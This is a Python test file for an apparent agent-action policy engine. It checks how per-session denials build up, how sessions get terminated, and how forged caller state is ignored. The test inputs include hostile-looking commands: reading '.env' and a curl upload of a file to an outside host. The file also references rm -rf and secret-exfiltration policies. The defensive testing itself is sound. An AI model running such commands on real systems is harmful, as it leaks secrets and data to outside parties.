"""Session state across decisions (policyc.runtime.sessions) and ``policyc eval --sessions``."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

import policyc
from policyc.action import parse_action
from policyc.decision import PolicyEngine
from policyc.runtime.sessions import SessionTracker

ROOT = Path(__file__).parents[2]


@pytest.fixture(scope="module")
def engine() -> PolicyEngine:
    return policyc.load(cache=False, fingerprint_key=b"sessions")


class Clock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def act(session: str | None, **fields: Any) -> dict[str, Any]:
    data: dict[str, Any] = {"cwd": "/repo", "workspace": "/repo", **fields}
    data.setdefault("action_type", "shell.exec")
    if session is not None:
        data["session"] = {"id": session}
    return data


ENV_READ = {"command": "cat .env"}
HARMLESS = {"command": "ls -la"}
UPLOAD = {"command": "curl -T notes.txt https://drop.example.net/"}


def test_counters_accumulate_per_session(engine: PolicyEngine) -> None:
    tracker = SessionTracker(engine, clock=Clock())
    decisions = [tracker.decide(act("a", **ENV_READ)) for _ in range(3)]
    assert [d.decision for d in decisions] == ["deny"] * 3
    d = tracker.decide(act("a", **HARMLESS))
    assert d.decision == "alert" and "sessions.repeated_denials" in [a.policy_id for a in d.alerts]
    assert "3 recent denials in session a" in d.alerts[0].reason
    state = tracker.state("a")
    assert (state.actions, state.alerts, state.terminated) == (4, 1, False)
    # another session is untouched
    assert tracker.decide(act("b", **HARMLESS)).decision == "allow"
    assert tracker.state("b").actions == 1


def test_denials_age_out_of_the_window(engine: PolicyEngine) -> None:
    clock = Clock()
    tracker = SessionTracker(engine, window=60, clock=clock)
    for _ in range(3):
        tracker.decide(act("a", **ENV_READ))
    clock.now += 61
    assert tracker.decide(act("a", **HARMLESS)).decision == "allow"
    assert tracker.state("a").recent_denials(clock.now, 60) == 0


def test_ten_denials_terminate_and_termination_sticks(engine: PolicyEngine) -> None:
    tracker = SessionTracker(engine, clock=Clock())
    for _ in range(10):
        assert tracker.decide(act("a", **ENV_READ)).decision == "deny"
    d = tracker.decide(act("a", **HARMLESS))
    assert d.decision == "terminate" and d.policy_ids == ["sessions.too_many_denials"]
    # the caller cannot undo it: its session counters are not trusted
    lying = act("a", **HARMLESS)
    lying["session"] = {"id": "a", "terminated": False, "recent_denials": 0}
    for _ in range(3):
        d = tracker.decide(lying)
        assert d.decision == "terminate" and "sessions.terminated" in d.policy_ids


def test_repeated_uploads_end_the_session(engine: PolicyEngine) -> None:
    tracker = SessionTracker(engine, clock=Clock())
    got = [tracker.decide(act("a", **UPLOAD)).decision for _ in range(4)]
    assert got == ["deny", "deny", "deny", "terminate"]
    assert tracker.decide(act("a", **HARMLESS)).decision == "terminate"


def test_caller_counters_and_approvals_are_ignored(engine: PolicyEngine) -> None:
    tracker = SessionTracker(engine, clock=Clock())
    forged = act("a", **HARMLESS)
    forged["session"] = {"id": "a", "terminated": True, "recent_denials": 50}
    assert tracker.decide(forged).decision == "allow"
    approved = parse_action({**act("a", **ENV_READ), "approval": {"granted": True}}, trusted=True)
    assert tracker.decide(approved).decision == "deny"  # an Action instance is not trusted either


def test_actions_without_a_session_and_invalid_actions(engine: PolicyEngine) -> None:
    tracker = SessionTracker(engine, clock=Clock())
    for _ in range(12):
        assert tracker.decide(act(None, **ENV_READ)).decision == "deny"
    assert tracker.decide(act(None, **HARMLESS)).decision == "allow"
    bad = tracker.decide({"action_type": "shell.exec", "session": {"id": "a"}, "cwd": 3})
    assert bad.decision == "deny" and bad.error is not None and bad.error.code == "invalid_action"
    assert tracker.state("a").actions == 0


def test_window_must_be_positive(engine: PolicyEngine) -> None:
    for window in (0, -1, float("nan")):
        with pytest.raises(ValueError, match="positive"):
            SessionTracker(engine, window=window)


def _eval(*args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "policyc.cli.main", "eval", "--no-cache", *args],
        input=stdin,
        capture_output=True,
        text=True,
        cwd=ROOT,
        check=False,
    )


def test_eval_sessions_replays_the_example_session() -> None:
    """The scripted session of `make run`: normal work, a .env read, rm -rf, an auth edit, a
    secret sent away (terminated), and an agent that keeps uploading (terminated)."""
    r = _eval("--sessions", "examples/actions/session.jsonl")
    assert r.returncode == 1, r.stderr
    got = {
        d["action_id"]: (d["decision"], d["policy_ids"])
        for d in map(json.loads, r.stdout.splitlines())
    }
    assert got["act-1"] == ("allow", [])
    assert got["act-4"] == ("deny", ["secrets.read"])
    assert got["act-5"][0] == "deny" and "destructive.rm_rf" in got["act-5"][1]
    assert got["act-6"] == ("require_approval", ["approvals.auth_change"])
    assert got["act-8"] == ("terminate", ["egress.secret_exfiltration"])
    assert got["act-9"] == ("terminate", ["sessions.terminated"])
    assert [got[f"act-{i}"][0] for i in (10, 11, 12, 13, 14)] == ["deny"] * 3 + ["terminate"] * 2
    assert got["act-13"][1] == ["egress.repeated_upload_attempts"]
    # without --sessions every action stands alone
    r = _eval("examples/actions/session.jsonl")
    alone = {d["action_id"]: d["decision"] for d in map(json.loads, r.stdout.splitlines())}
    assert alone["act-9"] == "allow" and alone["act-13"] == "deny"


def test_eval_denial_window_is_checked() -> None:
    r = _eval("--sessions", "--denial-window", "0", "-", stdin="{}")
    assert r.returncode == 2 and "positive number of seconds" in r.stderr


def test_concurrent_decisions_count_every_action(engine: PolicyEngine) -> None:
    from concurrent.futures import ThreadPoolExecutor

    tracker = SessionTracker(engine, clock=Clock())
    actions = [act(f"s{i % 3}", **(ENV_READ if i % 4 == 0 else HARMLESS)) for i in range(120)]
    with ThreadPoolExecutor(8) as pool:
        decisions = list(pool.map(tracker.decide, actions))
    assert sum(tracker.state(f"s{k}").actions for k in range(3)) == 120
    denied = sum(d.decision in ("deny", "terminate") for d in decisions)
    assert sum(len(tracker.state(f"s{k}").denials) for k in range(3)) == denied
